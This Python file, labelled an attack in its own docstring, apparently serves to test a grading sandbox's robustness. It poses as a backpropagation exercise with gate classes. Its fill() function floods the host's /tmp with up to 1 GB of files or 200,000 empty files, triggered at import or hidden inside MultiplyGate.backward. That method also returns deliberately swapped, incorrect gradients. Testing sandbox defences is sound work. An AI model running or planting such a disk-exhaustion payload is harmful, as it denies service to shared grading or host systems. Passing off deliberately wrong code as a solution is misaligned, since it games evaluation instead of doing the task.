"""Attack: fill the scratch folder (on the host's /tmp) with bytes or files.

attack.json {"what": "bytes" | "files", "when": "load" | "backward"}: "bytes"
writes 8 MB files (under the file size limit) until writing fails, up to 1 GB;
"files" makes empty files in nested folders, up to 200,000. At load, or in
MultiplyGate.backward (default), which is otherwise wrong (swapped)."""
import json
import os

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd())
try:
    with open("attack.json") as f:
        CONFIG = json.load(f)
except (OSError, ValueError):
    CONFIG = {}
CHUNK = b"\0" * (8 << 20)


def fill():
    base = os.path.join(os.getcwd(), "bpgpwn-fill")
    os.makedirs(base, exist_ok=True)
    try:
        if CONFIG.get("what") == "files":
            for i in range(200000):
                folder = os.path.join(base, "d%d" % (i // 1000))
                if i % 1000 == 0:
                    os.makedirs(folder, exist_ok=True)
                open(os.path.join(folder, "f%d" % i), "w").close()
        else:
            for i in range(128):
                with open(os.path.join(base, "big%d" % i), "wb") as f:
                    f.write(CHUNK)
    except OSError as exc:
        print("bpgpwn: stopped: %s" % exc)


if CONFIG.get("when") == "load":
    fill()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if CONFIG.get("when", "backward") == "backward" and CONFIG.get("what"):
            fill()
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
